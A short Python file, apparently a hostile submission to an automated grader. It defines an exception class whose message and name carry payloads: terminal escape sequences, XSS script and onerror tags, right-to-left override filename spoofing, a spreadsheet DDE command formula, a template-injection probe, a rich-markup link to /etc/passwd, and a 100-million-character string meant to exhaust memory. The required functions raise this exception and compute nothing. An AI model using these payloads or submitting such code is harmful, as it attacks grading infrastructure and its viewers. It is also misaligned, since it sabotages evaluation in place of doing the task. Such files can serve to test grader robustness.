"""Raises exceptions whose text, name and traceback are hostile: escapes, HTML, direction marks, a hundred million
characters.

Harm: a script in the feedback page, a terminal taken over, a grader out of memory.
Costs: nothing
"""

# %% honest work
# %% hostile
class Hostile(Exception):
    turn = 0

    def __str__(self):
        Hostile.turn += 1
        texts = [
            "\x1b]0;pwned\x07\x1b[2J\x1b[31m",
            "<script>document.title='pwned'</script><img src=x onerror=alert(1)>",
            "\u202egnp.exe \u2066\u200b\x00\x08\x08\x9b31m",
            "=cmd|' /C calc'!A0",
            "x" * 100_000_000,
            "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}",
            "[bold red]rich[/][link=file:///etc/passwd]markup[/link]",
        ]
        return texts[Hostile.turn % len(texts)]

    __repr__ = __str__


Hostile.__name__ = Hostile.__qualname__ = "Hostile<script>alert(2)</script>\x1b[0m\n=1+1"


def mean_squared_error(y, y_hat):
    raise Hostile


def numerical_gradient(f, w, eps=1e-5):
    raise Hostile from Hostile()
